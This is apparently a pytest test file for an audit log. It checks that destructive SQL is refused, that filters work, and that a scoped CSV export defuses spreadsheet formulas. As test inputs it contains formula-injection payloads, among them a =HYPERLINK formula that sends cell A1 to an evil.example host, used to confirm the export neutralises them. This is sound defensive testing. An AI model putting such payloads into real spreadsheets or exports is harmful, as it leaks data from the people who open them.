"""The audit log: append-only in the database itself, filters, and a scoped, formula-safe CSV export."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from sqlalchemy import delete, text, update
from sqlalchemy.exc import DBAPIError

from civicpulse.domain.org import audit
from civicpulse.domain.org.models import AuditEntry
from civicpulse.domain.org.permissions import Actor
from civicpulse.domain.org.queries import AUDIT_COLUMNS
from tests.conftest import csrf_from
from tests.org.support import World, snapshot

API = "/api/v1"


# ------------------------------------------------------------------ append-only


@pytest.mark.parametrize("statement", [
    "UPDATE audit_log SET action = 'forged' WHERE id = (SELECT MIN(id) FROM audit_log)",
    "UPDATE audit_log SET note = 'x'",
    "DELETE FROM audit_log WHERE id = (SELECT MAX(id) FROM audit_log)",
    "DELETE FROM audit_log",
])
def test_audit_log_is_append_only_in_the_database(w: World, statement: str) -> None:
    before = snapshot(w.db, ("audit_log",), ignore_actions=())
    with pytest.raises(DBAPIError, match="append-only"), w.db.engine.begin() as c:
        c.execute(text(statement))
    assert snapshot(w.db, ("audit_log",), ignore_actions=()) == before


def test_orm_cannot_change_or_delete_entries_either(w: World) -> None:
    before = snapshot(w.db, ("audit_log",), ignore_actions=())
    with pytest.raises(DBAPIError, match="append-only"), w.db.session() as s:
        s.execute(update(AuditEntry).values(actor_label="someone else"))
    with pytest.raises(DBAPIError, match="append-only"), w.db.session() as s:
        s.execute(delete(AuditEntry))
    assert snapshot(w.db, ("audit_log",), ignore_actions=()) == before
    # inserting is of course allowed
    with w.db.session() as s:
        audit.record(s, Actor.system_actor("test"), "test.insert")
    assert len(snapshot(w.db, ("audit_log",), ignore_actions=())["audit_log"]) == len(before["audit_log"]) + 1


# ------------------------------------------------------------------ filters


def _entries(w: World, query: str, who: str = "root-admin") -> list[dict]:
    r = w.anonymous().get(f"{API}/audit?per_page=200&{query}", headers=w.bearer(who))
    assert r.status_code == 200, r.text
    return [e for e in r.json()["items"] if e["action"] != "token.use"]


def test_filter_by_action_prefix(w: World) -> None:
    units = _entries(w, "action=unit.")
    assert units and {e["action"] for e in units} == {"unit.create"}
    roles = _entries(w, "action=role")
    assert roles and all(e["action"].startswith("role") for e in roles)
    assert _entries(w, "action=unit.create") == units
    assert _entries(w, "action=nothing.like.this") == []
    # a prefix, not a pattern: % and _ are literal
    assert _entries(w, "action=%25") == [] and _entries(w, "action=_") == []


def test_filter_by_actor(w: World) -> None:
    logins = _entries(w, "actor=admin.at.b")
    assert logins and all("admin.at.b" in e["actor_label"] for e in logins)
    assert {e["action"] for e in logins} >= {"auth.login"}
    assert _entries(w, "actor=ADMIN.AT.B") == logins  # case-insensitive
    assert _entries(w, "actor=nobody-like-this") == []


def test_filter_by_unit(w: World) -> None:
    for code in ("R", "A", "A1", "B"):
        got = _entries(w, f"unit_id={w.units[code]}")
        assert got and {e["unit_id"] for e in got} == {w.units[code]}


def test_filter_by_dates(w: World) -> None:
    stamps = {"2024-01-15": "old.one", "2024-06-15": "mid.one", "2025-01-15": "new.one"}
    with w.db.session() as s:
        for day, action in stamps.items():
            e = audit.record(s, Actor.system_actor("test"), action, unit_id=w.units["A"],
                             unit_path=f"/{w.units['R']}/{w.units['A']}/")
            e.at = dt.datetime.fromisoformat(day).replace(hour=12, tzinfo=dt.UTC)

    def actions(query: str) -> set[str]:
        return {e["action"] for e in _entries(w, query)} & set(stamps.values())

    assert actions("since=2024-01-01T00:00:00Z") == set(stamps.values())
    assert actions("since=2024-03-01T00:00:00Z") == {"mid.one", "new.one"}
    assert actions("until=2024-06-15T12:00:00Z") == {"old.one"}  # until is exclusive
    assert actions("since=2024-03-01T00:00:00Z&until=2024-12-31T00:00:00Z") == {"mid.one"}
    assert actions("since=2024-06-15T19:00:00%2B07:00") == {"mid.one", "new.one"}  # 12:00 UTC, zone honoured
    assert actions("since=2024-06-15T12:00:01") == {"new.one"}  # naive means UTC
    # the UI filter works on whole days, "until" inclusive
    html = w.clients["root-admin"].get("/audit?since=2024-06-15&until=2024-06-15").text
    assert "mid.one" in html and "old.one" not in html and "new.one" not in html


def test_filters_combine_and_page(w: World) -> None:
    got = _entries(w, f"action=role.grant&unit_id={w.units['A']}&actor=test")
    assert got and all(e["action"] == "role.grant" and e["unit_id"] == w.units["A"] for e in got)
    r = w.anonymous().get(f"{API}/audit?per_page=2&page=2", headers=w.bearer("root-admin")).json()
    assert len(r["items"]) == 2 and r["page"] == 2 and r["total"] > 4


def test_invalid_filters_are_a_clean_4xx(w: World) -> None:
    c = w.anonymous()
    for query in ("since=yesterday", "unit_id=abc", "per_page=0", "per_page=201", "action=" + "x" * 61):
        for path in ("audit", "audit.csv") if "per_page" not in query else ("audit",):
            r = c.get(f"{API}/{path}?{query}", headers=w.bearer("root-admin"))
            assert r.status_code == 422, (path, query, r.status_code, r.text[:300])
            assert r.json()["error"]["message"]


@pytest.mark.parametrize("path", ["audit", "audit.csv"])
def test_nul_in_a_filter_fails_before_the_export_starts(w: World, path: str) -> None:
    """PostgreSQL refuses NUL in text: that must be a 422, not a CSV stream that breaks halfway (SQLite: no match)."""
    r = w.anonymous().get(f"{API}/{path}?actor=a%00b", headers=w.bearer("root-admin"))
    assert r.status_code in (200, 422), r.text[:300]
    if r.status_code == 422:
        assert r.json()["error"]["code"] == "validation_failed"
    elif path == "audit.csv":
        assert r.text.splitlines() == [",".join(AUDIT_COLUMNS)]
    else:
        assert r.json()["items"] == []


# ------------------------------------------------------------------ CSV export


def _csv(w: World, who: str, query: str = "") -> list[list[str]]:
    r = w.anonymous().get(f"{API}/audit.csv?{query}", headers=w.bearer(who))
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    return list(csv.reader(io.StringIO(r.text)))


def test_csv_has_the_header_and_every_entry(w: World) -> None:
    api_total = w.anonymous().get(f"{API}/audit?per_page=1", headers=w.bearer("root-admin")).json()["total"]
    rows = _csv(w, "root-admin")
    assert rows[0] == AUDIT_COLUMNS
    assert len(rows) - 1 == api_total + 1  # plus the token.use entry of the export request itself
    ids = [int(r[0]) for r in rows[1:]]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == len(ids)


def test_csv_is_limited_to_the_admins_scope(w: World) -> None:
    everything = _csv(w, "root-admin")
    a_ids = {str(w.units["A"]), str(w.units["A1"])}
    assert any(r[5] in a_ids for r in everything[1:]), "the root admin sees A's history (so the check below means something)"
    mine = _csv(w, "admin@B")
    assert len(mine) > 1
    assert {r[5] for r in mine[1:]} == {str(w.units["B"])}
    text_b = "\n".join(",".join(r) for r in mine)
    for secret in ("res.at.a@", "viewer.at.a@", "Unit A1", "res.at.a1@"):
        assert secret not in text_b
    # the UI export gives the same scope
    r = w.clients["admin@B"].get("/audit.csv")
    assert r.status_code == 200
    ui_rows = list(csv.reader(io.StringIO(r.text)))
    assert ui_rows[0] == AUDIT_COLUMNS and {x[5] for x in ui_rows[1:]} == {str(w.units["B"])}


FORMULAS = ["=1+2", "+SUM(A1:A3)", "-2+3", "@cmd", "\t=tab", "\r=cr", '=HYPERLINK("http://evil.example","x")']


def test_csv_neutralises_spreadsheet_formulas(w: World) -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    c = w.anonymous()
    # a unit named with a formula, created by B's admin in B
    r = c.post(f"{API}/units", json={"code": "EVIL", "parent_id": w.units["B"], "names": {"en": evil}},
               headers=w.bearer("admin@B"))
    assert r.status_code == 201, r.text
    # a person whose email starts with a formula signs in: it becomes the actor label of entries in B
    r = c.post(f"{API}/users", headers=w.bearer("admin@B"), json={
        "email": "=1+1@evil.example", "display_name": evil, "password": "a-long-enough-password",
        "roles": [{"unit_id": w.units["B"], "role": "viewer"}]})
    assert r.status_code == 201, r.text
    browser = w.anonymous()
    page = browser.get("/login")
    r = browser.post("/login", data={"email": "=1+1@evil.example", "password": "a-long-enough-password",
                                     "csrf_token": csrf_from(page.text)}, follow_redirects=False)
    assert r.status_code == 303
    with w.db.session() as s:  # free-text notes starting with every dangerous character
        for f in FORMULAS:
            audit.record(s, Actor.system_actor("test"), "test.formula", unit_id=w.units["B"],
                         unit_path=f"/{w.units['R']}/{w.units['B']}/", note=f)
    rows = _csv(w, "admin@B")
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    labels = {row[3] for row in rows[1:]}
    assert "'=1+1@evil.example" in labels
    notes = {row[12] for row in rows[1:] if row[6] == "test.formula"}
    assert notes == {"'" + f for f in FORMULAS}
    # the unit's name is in the JSON of its creation entry, never at the start of a cell
    created = [row for row in rows[1:] if row[6] == "unit.create" and "EVIL" in row[10]]
    assert created and evil.replace('"', '\\"') in created[0][10]
    assert created[0][10].startswith("{")
